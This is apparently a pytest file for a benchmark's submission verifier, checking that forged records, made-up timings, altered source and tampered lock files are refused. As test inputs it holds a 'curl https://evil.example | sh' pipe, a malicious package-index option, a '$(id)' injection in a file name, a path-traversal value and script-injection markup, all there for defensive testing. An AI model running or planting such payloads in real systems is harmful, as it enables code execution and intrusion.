"""Every check of `verify` refuses what it is for, by name, and what was published passes all of them."""

import json
import shutil
from datetime import UTC, datetime, timedelta

import numpy as np
import pytest
from bundles import APPLY, CARD, changed, made
from conftest import ROOT
from msgspec.structs import replace

from suite import latency, registry
from suite.record import Estimate
from suite.store import COLUMNS, Store
from suite.submission import checks, limits, sizes, source, times, together, verify
from suite.submission.verify import OF_RECORDS, Verifier

PUBLISHED = ROOT / "site" / "results"
RNG = np.random.default_rng(3)


@pytest.fixture(scope="module")
def targets():
    return registry.discover().targets


@pytest.fixture(scope="module")
def right(tmp_path_factory):
    """A bundle that passes every check."""
    return made(tmp_path_factory.mktemp("right"))


@pytest.fixture
def verdict(tmp_path, targets):
    """What `verify` finds in the bytes of a bundle, against `published`."""

    def check(data, published=None):
        path = tmp_path / "mine.squeezemark.zip"
        path.write_bytes(data)
        return Verifier(targets, published).bundle(path)

    return check


def _found(verdict, check):
    return " | ".join(finding.problem for finding in verdict.findings if finding.check == check)


def test_a_right_one_passes_every_check(right, verdict):
    found = verdict(right.archive())
    assert found.findings == ()
    assert (found.records, found.checks) == (3, tuple(checks.ASKS))
    rows = found.as_json()
    assert rows["ok"] is True
    assert [row["problems"] for row in rows["checks"]] == [[]] * len(checks.ASKS)


def _part(record, **changes):
    name, part = next(iter(record.artifact.parts.items()))
    return replace(record, artifact=replace(record.artifact, parts=record.artifact.parts | {name: replace(part, **changes)}))


def _claims(record, holds):
    return replace(record, artifact=replace(record.artifact, claims=tuple(replace(c, holds=holds) for c in record.artifact.claims)))


def _metric(record, value):
    old = record.accuracy
    return replace(record, accuracy=replace(old, metrics=old.metrics | {old.metric: Estimate(value, value - 0.01, value + 0.01)}))


def _faster(record):
    speed = record.latency.speed_up
    return replace(record, latency=replace(record.latency, speed_up=Estimate(speed.value, speed.low, speed.high * 1.001)))


def _digest(record, **changes):
    return replace(record, provenance=replace(record.provenance, **changes))


FORGED = [
    ("a faster speed-up", "statistics", "latency.speed_up.high is", _faster),
    ("a better accuracy", "statistics", "accuracy.metrics.recall_at_1.value", lambda r: _metric(r, 0.9)),
    ("no whole number of items", "accuracy", "no whole number of 200 items", lambda r: _metric(r, 0.9001)),
    ("more items", "accuracy", "answers of 2000 items", lambda r: replace(r, accuracy=replace(r.accuracy, items=2000))),
    ("no items", "accuracy", "no items", lambda r: replace(r, accuracy=replace(r.accuracy, items=0))),
    ("larger compressed", "sizes", "is larger compressed", lambda r: _part(r, zstd_bytes=10**9)),
    ("more zeros than numbers", "sizes", "that are not zero, of", lambda r: _part(r, nonzero_parameters=10**9)),
    ("types that do not add up", "sizes", "than its types have", lambda r: _part(r, parameters_by_type={"int8": 3})),
    ("more than the file holds", "sizes", "parameters of", lambda r: _part(r, bytes=1000, zstd_bytes=500)),
    ("a negative count", "sizes", "negative count", lambda r: _part(r, cache_bytes_per_token=-1)),
    ("more operations than there are", "sizes", "than it has in all", lambda r: _part(r, nonzero_macs=10**15)),
    ("bit-operations", "sizes", "more bit-operations", lambda r: _part(r, bit_operations=10**18)),
    ("a path for a file", "sizes", "a file or a hash that is none", lambda r: _part(r, file="../../model.onnx")),
    ("a hash that is none", "sizes", "a file or a hash that is none", lambda r: _part(r, sha256="<img src=x>")),
    ("another artifact", "sizes", "does not follow from", lambda r: _digest(r, artifact_sha256="b" * 64)),
    (
        "a component that there is not", "sizes", "its recipe is applied to 'audio', which its artifact has not",
        lambda r: replace(r, cell=replace(r.cell, recipe=(replace(r.cell.recipe[0], components=("vision", "audio")),))),
    ),
    ("a model without a hash", "sizes", "model's hash is no sha256", lambda r: _digest(r, model_sha256="none")),
    ("a claim that does not hold", "sizes", "although a claim", lambda r: _claims(r, False)),
    ("tomorrow", "dates", "still to come", lambda r: replace(r, created=(datetime.now(UTC) + timedelta(days=1)).isoformat())),
    ("long ago", "dates", "before there was", lambda r: replace(r, created="2019-01-01T00:00:00+00:00")),
    ("no time zone", "dates", "no date with a time zone", lambda r: replace(r, created="2026-11-24T10:00:00")),
    ("no date", "dates", "no date", lambda r: replace(r, created="<b>now</b>")),
    ("the end of time", "dates", "no date", lambda r: replace(r, created="0001-01-01T00:00:00+14:00")),
    ("another method's", "cells", "it is a record of theirs", lambda r: replace(r, cell=replace(r.cell, method="theirs"))),
    ("another variant", "cells", "steps are not the method", lambda r: replace(r, cell=replace(r.cell, variant="three"))),
    ("without its baseline", "cells", "is not beside it", lambda r: replace(r, cell=replace(r.cell, test_seed=7))),
    (
        "another machine", "surroundings", "its machine is", lambda r: replace(r, environment=replace(r.environment, cpu="Faster CPU")),
    ),
    (
        "other kernels", "surroundings", "instruction set", lambda r: replace(r, environment=replace(r.environment, cpu_flags=("avx2",))),
    ),
    (
        "another library", "surroundings", "version of numpy",
        lambda r: replace(r, environment=replace(r.environment, libraries={"numpy": "1.0", "onnxruntime": "1.31.1"})),
    ),
    ("another model", "surroundings", "its model is", lambda r: _digest(r, model_sha256="c" * 64)),
    ("another suite", "surroundings", "its suite is", lambda r: _digest(r, suite_version="9.9")),
]  # fmt: skip


@pytest.mark.parametrize(("check", "words", "change"), [row[1:] for row in FORGED], ids=[row[0] for row in FORGED])
def test_a_forged_record_is_refused(check, words, change, right, verdict):
    found = verdict(changed(right, change))
    assert words in _found(found, check)
    assert not found.ok


def _timed(columns):
    """The figures that follow from such times, so that no other check is in the way."""
    return lambda record: replace(record, latency=latency.summarize(columns, record.latency.cpu_wall))


def _noise(shape):
    return np.exp(RNG.normal(0, 0.05, shape))


TIMES = [
    ("constant", "only 1 different", lambda c: np.full_like(c["compressed_ns"], 400_000)),
    ("a few values", "different times among", lambda c: RNG.choice([400_000, 400_001], c["compressed_ns"].shape).astype(np.uint32)),
    ("scaled from the baseline", "but for a factor", lambda c: (c["baseline_ns"] / 2.5).astype(np.uint32)),
    ("whole microseconds", "multiples of a microsecond", lambda c: (c["compressed_ns"] // 1000 * 1000).astype(np.uint32)),
    ("no whole nanoseconds", "no whole nanoseconds", lambda c: c["compressed_ns"] * 1.1),
    ("negative", "not above 0", lambda c: np.where(np.arange(12) == 3, -5, c["compressed_ns"]).astype(np.int32)),
    ("a block twice", "a block of times twice", lambda c: np.concatenate([c["compressed_ns"][:2], c["compressed_ns"][:1]])),
]


@pytest.mark.parametrize(("words", "change"), [row[1:] for row in TIMES], ids=[row[0] for row in TIMES])
def test_times_that_were_made_up_are_refused(words, change, right, verdict):
    found = verdict(changed(right, lambda record: record, lambda columns: columns | {"compressed_ns": change(columns)}))
    assert words in _found(found, "times")


def test_times_that_no_processor_could_keep_are_refused_although_all_figures_follow(right, verdict):
    record = next(record for record in right.store.records() if record.cell.method == "mine")
    columns = right.store.columns(record)
    columns["compressed_ns"] = np.round(2_000 * _noise(columns["compressed_ns"].shape)).astype(np.uint32)
    found = verdict(changed(right, _timed(columns), lambda _: columns))
    assert "multiplying by its weights takes the fastest processor" in _found(found, "bounds")
    assert "reading its weights takes the fastest processor" in _found(found, "bounds")
    assert {finding.check for finding in found.findings} == {"bounds"}


def test_a_table_of_which_rows_are_looked_up_need_not_be_read(right):
    record = next(record for record in right.store.records() if record.cell.method == "mine")
    parts = {name: replace(part, operators={"Gather": 1}, nonzero_macs=1) for name, part in record.artifact.parts.items()}
    columns = {"compressed_ns": np.full((2, 2, 4), 10)}
    assert list(limits.too_fast(record, columns, None)) != []
    assert list(limits.too_fast(replace(record, artifact=replace(record.artifact, parts=parts)), columns, None)) == []


def test_more_samples_than_a_session_gives_are_not_even_worked_out(right, verdict, monkeypatch):
    monkeypatch.setattr(limits, "QUADS", 8)
    found = verdict(right.archive())
    assert "has the shape (3, 4, 12)" in _found(found, "shapes")
    assert not _found(found, "statistics")
    assert "has 1001 columns" in " ".join(limits.problems({str(n): np.zeros(1) for n in range(1001)}))
    assert "bytes" in " ".join(limits.problems({"a": np.zeros((1 << 20, 5))}))


@pytest.mark.parametrize(("limit", "value"), [("UNPACKED_BYTES", 1000), ("LOST", -1)])
def test_what_unpacks_to_too_much_in_all_is_not_looked_at_to_the_end(limit, value, right, verdict, monkeypatch):
    monkeypatch.setattr(verify, limit, value)
    found = verdict(right.archive())
    assert "not looked at" in _found(found, "limits")
    assert found.records < 3


def test_the_same_times_under_another_name_are_a_copy(right, verdict):
    one, two = (record for record in right.store.records() if record.cell.method == "mine")
    copied = right.store.columns(two)
    assert f"are those of {one.name}" in _found(verdict(_copy(right, one, two)), "duplicates")
    assert len(together.prints(copied)) == 2


def _copy(right, one, two):
    """The archive in which the second record rests on the samples of the first."""
    theirs = right.store.columns(one)
    return changed(right, lambda record: replace(one, key=two.key, cell=two.cell), lambda _: theirs, variant="two")


def test_what_is_published_cannot_be_handed_in_again_and_its_times_under_no_other_name(right, verdict, tmp_path):
    shutil.copytree(right.store.folder, tmp_path / "published")
    published = together.Published(Store(tmp_path / "published"))
    found = verdict(right.archive(), published)
    assert _found(found, "duplicates") == "it is published already | it is published already"
    renamed = verdict(changed(right, lambda record: replace(record, key="d" * 64)), published)
    assert "are those of the published glyph_clip--mine--one" in _found(renamed, "duplicates")
    altered = verdict(changed(right, lambda record: replace(record, created="2026-11-23T14:00:00Z"), method="baseline_fp32"), published)
    assert "another record of its name is published" in _found(altered, "duplicates")


SOURCES = [
    ("changed", "source", "is not the one that", {"method/mine/apply.py": APPLY.encode() + b"# better\n"}, ()),
    ("a file more", "source", "is not the one that", {"method/mine/more.py": b"x = 1\n"}, ()),
    ("unhashed", "source", "files that records do not hash", {"method/mine/train.py": b"x = 1\n"}, ()),
    ("in a cache", "source", "files that records do not hash", {"method/mine/__pycache__/a.py": b"x = 1\n"}, ()),
    ("missing", "source", "its source is not there", {}, ("method/baseline_fp32/__init__.py", "method/baseline_fp32/apply.py")),
    ("not asked for", "source", "no record names it", {"method/other/apply.py": b"x = 1\n"}, ()),
    ("another card", "source", "its card says name='other'", {"method/mine/__init__.py": CARD.replace('"mine"', '"other"').encode()}, ()),
    ("no Python", "source", "its card is no Python", {"method/mine/__init__.py": b"def"}, ()),
    ("deeply nested", "source", "its card is no Python", {"method/mine/__init__.py": b"x = " + b"(" * 5000}, ()),
    (
        "another licence",
        "licence",
        "its card says licence='GPL",
        {"method/mine/__init__.py": CARD.replace("MIT", "GPL-3.0-only").encode()},
        (),
    ),
    ("a recipe too", "source", "one of them", {"recipes/mine.toml": b"title = 'x'\n"}, ()),
    ("no lock", "lock", "it is missing", {}, ("constraints.txt",)),
    ("a loose lock", "lock", "line 2 is not name==version", {"constraints.txt": b"numpy==2.4.6\ntorch>=2\n"}, ()),
    ("a lock with an option", "lock", "line 1 is not", {"constraints.txt": b"--index-url https://evil.example\nnumpy==2.4.6\n"}, ()),
    ("an empty lock", "lock", "does not name numpy", {"constraints.txt": b""}, ()),
    ("no machine", "lock", "not what squeezemark writes", {"environment.json": b"{}"}, ()),
]


@pytest.mark.parametrize(("check", "words", "changes", "without"), [row[1:] for row in SOURCES], ids=[row[0] for row in SOURCES])
def test_source_that_is_not_what_was_measured_is_refused(check, words, changes, without, right, verdict):
    assert words in _found(verdict(right.archive(changes, without)), check)


def test_source_is_never_run(right, verdict, tmp_path):
    trap = f"import pathlib\npathlib.Path({str(tmp_path / 'sprung')!r}).touch()\n".encode()
    assert not verdict(right.archive({"method/mine/__init__.py": trap, "method/mine/apply.py": trap})).ok
    assert not (tmp_path / "sprung").exists()


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text + "; curl https://evil.example | sh",
        lambda text: text + " --host evil",
        lambda text: text.replace("full", "quick"),
    ],
)
def test_the_command_is_that_of_the_cell_for_readers_copy_it(right, verdict, change):
    told = _found(verdict(changed(right, lambda record: _digest(record, command=change(record.provenance.command)))), "command")
    assert "and that of its cell is 'squeezemark run --models glyph_clip --methods baseline_fp32,mine/" in told


def test_a_command_may_name_the_file_of_a_recipe(right, verdict):
    named = changed(
        right, lambda record: _digest(record, command=record.provenance.command.replace(" --targets", " --recipe my-own.toml --targets"))
    )
    assert verdict(named).ok
    hidden = changed(
        right, lambda record: _digest(record, command=record.provenance.command.replace(" --targets", " --recipe $(id).toml --targets"))
    )
    assert _found(verdict(hidden), "command")


def test_markup_is_no_error_and_stays_text(right, verdict):
    text = "<script>alert(1)</script>[a](javascript:alert(1))"

    def marked(record):
        claims = tuple(replace(claim, claim=text, claimed=text, realised=text) for claim in record.artifact.claims)
        return replace(record, artifact=replace(record.artifact, claims=claims))

    assert verdict(changed(right, marked)).ok
    told = _found(
        verdict(changed(right, lambda record: replace(record, environment=replace(record.environment, cpu=text)))), "surroundings"
    )
    assert text in told
    assert told.isprintable()


@pytest.mark.parametrize("licence", ["", "CC-BY-NC-4.0", "Proprietary", "mit", "<script>"])
def test_only_open_licences_are_published(licence, right, verdict):
    from suite.submission.pack import packed

    assert "is none of the open ones" in _found(verdict(packed(right.manifest(licence=licence), right.contents)), "licence")
    assert source.problem_of_licence("Apache-2.0") is None


def test_a_recipe_is_held_against_the_steps_that_were_measured(right):
    record = next(record for record in right.store.records() if record.cell.method == "mine")
    step = record.cell.recipe[0]
    steps = (replace(step, method="a", variant="x"), replace(step, method="b", variant="y"))
    text = 'title = "T"\nsummary = "S"\n[[variants]]\nname = "one"\nsummary = "s"\n'
    text += "".join(f'[[variants.steps]]\nmethod = "{method}"\nvariant = "{variant}"\n' for method, variant in (("a", "x"), ("b", "y")))
    file = right.store.folder.parent / "mine.toml"
    file.write_text(text)
    table = source.decode(file)
    for component, recipe, follows in (
        (None, steps, True), (None, steps[:1], False), (None, steps[::-1], False), ("vision", steps[:1], True), ("vision", (), False),
    ):  # fmt: skip
        assert source._follows(replace(record, cell=replace(record.cell, recipe=recipe, component=component)), table) is follows


def test_raw_samples_that_nobody_names_and_records_without_any(right, verdict):
    bare = changed(right, lambda record: record)
    assert verdict(bare).ok
    record = next(record for record in right.store.records() if record.cell.method == "mine")
    name = f"records/{record.name}"
    nameless = json.loads(right.contents[f"{name}.json"]) | {"columns_sha256": None}
    found = verdict(right.archive({f"{name}.json": json.dumps(nameless).encode()}))
    assert "it names no raw samples, and there are some" in _found(found, "columns")
    gone = verdict(right.archive(without=(f"{name}{COLUMNS}",)))
    assert "No such file" in _found(gone, "columns")
    neither = verdict(right.archive({f"{name}.json": json.dumps(nameless).encode()}, (f"{name}{COLUMNS}",)))
    assert "figures and no raw samples" in _found(neither, "columns")


def test_types_say_how_wide_they_are():
    assert [sizes.width(kind) for kind in ("int4", "uint8", "float16", "bfloat16", "float8e4m3fn", "bool")] == [4, 8, 16, 16, 8, 8]


def test_a_check_that_cannot_be_carried_out_is_a_finding(right, verdict):
    found = verdict(changed(right, lambda record: record, lambda columns: {"compressed_ns": columns["compressed_ns"]}))
    assert "do not bear it out (KeyError" in _found(found, "statistics")


def test_few_times_may_look_like_anything():
    assert list(times._of_column(np.array([5, 5, 5]))) == []


@pytest.fixture(scope="module")
def sample(tmp_path_factory):
    """Every tenth published record, and those of other targets."""
    folder = tmp_path_factory.mktemp("sample")
    found = sorted(PUBLISHED.glob("*.json"))
    for path in [*found[::10], *(path for path in found if "openvino" in path.name)]:
        for file in (path, path.with_suffix("").with_name(path.stem + COLUMNS)):
            if file.exists():
                shutil.copy(file, folder)
    return folder


def test_all_that_is_published_passes(squeezemark):
    done = squeezemark("verify", "--all", "--results", ROOT / "site" / "results")
    assert done.returncode == 0, done.stdout + done.stderr


def test_what_is_published_passes(sample, squeezemark):
    done = squeezemark("verify", "--all", "--results", sample)
    assert done.returncode == 0, done.stdout
    assert f"{len(list(sample.glob('*.json')))} records, {len(OF_RECORDS)} checks, passed." in done.stdout
    assert done.stdout.count("ok ") == len(OF_RECORDS)


def test_and_fails_where_one_was_touched(sample, tmp_path, squeezemark):
    for path in sorted(sample.iterdir())[:8]:
        shutil.copy(path, tmp_path)
    path = sorted(tmp_path.glob("*.json"))[0]
    path.write_text(path.read_text().replace('"zstd_bytes": ', '"zstd_bytes": 9'))
    (tmp_path / "broken.json").write_text("{")
    done = squeezemark("verify", "--all", "--results", tmp_path, "--json")
    assert done.returncode == 1
    (found,) = json.loads(done.stdout)
    problems = {row["check"]: row["problems"] for row in found["checks"] if row["problems"]}
    assert problems.keys() == {"sizes", "schema"}
    assert problems["schema"][0].startswith("broken.json: ")


def test_the_page_on_security_names_every_check():
    page = (ROOT / "docs" / "security.md").read_text()
    assert [name for name in checks.ASKS if f"| `{name}` |" not in page] == []
